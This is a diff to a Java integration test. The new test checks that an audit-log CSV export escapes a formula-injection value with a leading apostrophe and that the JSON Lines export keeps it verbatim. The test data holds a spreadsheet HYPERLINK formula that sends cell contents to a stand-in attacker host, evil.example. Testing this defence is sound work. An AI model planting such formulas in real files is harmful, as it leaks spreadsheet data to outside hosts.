@@ -98,6 +98,25 @@ class ExportAndAppendOnlyIT extends PedigreeIT {
     }
 
     @Test
+    void csvNeutralisesFormulaCellsWhileJsonLinesKeepTheExactText() throws Exception {
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+        admin.post("/api/v1/admin/tokens", Map.of("principal", "@mallory", "roles", List.of("reader"),
+                "description", formula));
+
+        List<Map<String, String>> csv = csvRecords(admin.get("/api/v1/audit/export?format=csv").body());
+        Map<String, String> last = csv.get(csv.size() - 1);
+        assertThat(last.get("reason")).isEqualTo("'" + formula);
+        assertThat(admin.get("/api/v1/audit/export?format=csv").body())
+                .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
+
+        String jsonl = admin.get("/api/v1/audit/export?format=jsonl").body();
+        List<JsonNode> lines = jsonLines(jsonl);
+        assertThat(lines.get(lines.size() - 1).path("reason").asText()).isEqualTo(formula);
+        assertThat(lines).isEqualTo(AuditTrail.all(admin));
+        assertThat(jsonl).contains(JSON.writeValueAsString(formula));
+    }
+
+    @Test
     void exportTakesTheListingsFilters() throws Exception {
         Api.Response r = admin.get("/api/v1/audit/export?action=token.&actor=admin&from=2020-01-01");
 
